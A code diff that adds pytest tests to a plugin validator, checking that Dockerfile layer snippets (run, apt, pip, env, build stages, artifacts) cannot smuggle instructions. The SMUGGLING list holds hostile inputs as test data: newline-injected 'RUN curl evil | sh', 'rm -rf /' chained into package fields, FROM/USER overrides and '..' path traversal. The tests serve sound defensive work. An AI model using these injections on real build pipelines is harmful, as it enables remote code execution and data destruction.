@@ -62,6 +62,75 @@ def test_docker_layer_errors(layer, field, fragment):
     assert "plugin 'p'" in str(excinfo.value)
 
 
+# Snippets that could leave the line they are rendered on, or change the image's base or
+# user: each is refused with a PluginError naming the plugin, the field and the value.
+SMUGGLING = [
+    (DockerLayer(run=("make\nRUN curl evil | sh",)), "run", "newline"),
+    (DockerLayer(run=("make\rRUN curl evil | sh",)), "run", "newline"),
+    (DockerLayer(run=("make\u2028RUN x",)), "run", "newline"),
+    (DockerLayer(run=("make \\",)), "run", "continuation"),
+    (DockerLayer(run=("make \\  ",)), "run", "continuation"),
+    (DockerLayer(run=("cat > /x <<EOF",)), "run", "heredoc"),
+    (DockerLayer(run=("cat <<-'END'",)), "run", "heredoc"),
+    (DockerLayer(run=("FROM debian:12",)), "run", "FROM and USER"),
+    (DockerLayer(run=("  from scratch",)), "run", "FROM and USER"),
+    (DockerLayer(run=("USER nobody",)), "run", "FROM and USER"),
+    (DockerLayer(run=("COPY / /host",)), "run", "Dockerfile instruction"),
+    (DockerLayer(run=("RUN make",)), "run", "Dockerfile instruction"),
+    (DockerLayer(run=("ENTRYPOINT [\"sh\"]",)), "run", "Dockerfile instruction"),
+    (DockerLayer(stages=(BuildStage("s", "debian:12", run=("ok", "x\nUSER root")),)), "stages[s].run", "newline"),
+    (DockerLayer(stages=(BuildStage("s", "debian:12", run=("USER root",)),)), "stages[s].run", "FROM and USER"),
+    (DockerLayer(env={"A": "1\rRUN x"}), "env", "one-line"),
+    (DockerLayer(pip=("nle\nRUN x",)), "pip", "requirements"),
+    (DockerLayer(pip=("nle; rm -rf /",)), "pip", "not a requirement"),
+    (DockerLayer(apt=("curl\nRUN x",)), "apt", "Debian package name"),
+    (DockerLayer(apt=("curl && rm -rf /",)), "apt", "Debian package name"),
+    (DockerLayer(apt=("curl=7.88",)), "apt", "Debian package name"),
+    (DockerLayer(apt=("-y",)), "apt", "Debian package name"),
+    (DockerLayer(apt=("x",)), "apt", "Debian package name"),
+    (DockerLayer(apt=("Curl",)), "apt", "Debian package name"),
+    (DockerLayer(stages=(BuildStage("s", "debian:12", apt=("ok1", "bad name")),)), "stages[s].apt", "Debian package"),
+    (DockerLayer(stages=(BuildStage("s", "debian:12\nUSER root"),)), "stages", "one image"),
+    (DockerLayer(stages=(BuildStage("Build", "debian:12"),)), "stages", "starting with a letter"),
+    (DockerLayer(stages=(BuildStage("1build", "debian:12"),)), "stages", "starting with a letter"),
+    (DockerLayer(stages=(BuildStage("s", "debian:12"), BuildStage("s", "debian:12"))), "stages", "two stages"),
+    (DockerLayer(stages=(BuildStage("s", "debian:12", artifacts=("/opt/$HOME",)),)), "artifacts", "absolute"),
+    (DockerLayer(stages=(BuildStage("s", "debian:12", artifacts=("/opt/../etc",)),)), "artifacts", "'..'"),
+]
+
+
+@pytest.mark.parametrize(("layer", "field", "fragment"), SMUGGLING)
+def test_docker_layer_snippets_cannot_smuggle_instructions(layer, field, fragment):
+    with pytest.raises(PluginError) as excinfo:
+        layer.validate("sneaky")
+    error = excinfo.value
+    assert error.plugin == "sneaky" and "plugin 'sneaky'" in str(error)
+    assert field in error.field
+    assert fragment in str(error)
+    # The message quotes the offending value (repr, so a newline shows as \n).
+    values = [*layer.run, *layer.apt, *layer.pip, *layer.env.values()]
+    for stage in layer.stages:
+        values += [*stage.run, *stage.apt, *stage.artifacts, stage.base, stage.name]
+    assert any(repr(value) in str(error) or value in str(error) for value in values), str(error)
+
+
+@pytest.mark.parametrize(
+    "layer",
+    [
+        DockerLayer(run=("env FOO=1 make install",)),  # `env` the shell command, not ENV
+        DockerLayer(run=("copy_files.sh && run-tests",)),
+        DockerLayer(run=("printf '%s\\n' a b > /etc/x",)),  # a literal backslash-n is fine
+        DockerLayer(run=("echo 'a \\ b'",)),  # a backslash that does not end the line
+        DockerLayer(apt=("g++", "libc6-dev", "lua5.1", "python3.11-venv")),
+        DockerLayer(pip=("nle==1.3.0", "pettingzoo[classic]>=1.24", "x @ https://example.invalid/x.whl")),
+        DockerLayer(env={"PATH": "/opt/x/bin:$PATH", "GREETING": 'say "hi"'}),
+        DockerLayer(stages=(BuildStage("dmlab", "${BASE}", artifacts=("/opt/dmlab/deepmind_lab-1.0-py3-none-any.whl",)),)),
+    ],
+)
+def test_docker_layer_accepts_ordinary_snippets(layer):
+    layer.validate("fine")
+
+
 def test_valid_docker_layer():
     DockerLayer(
         apt=("libbz2-dev", "g++", "libc6-dev"),
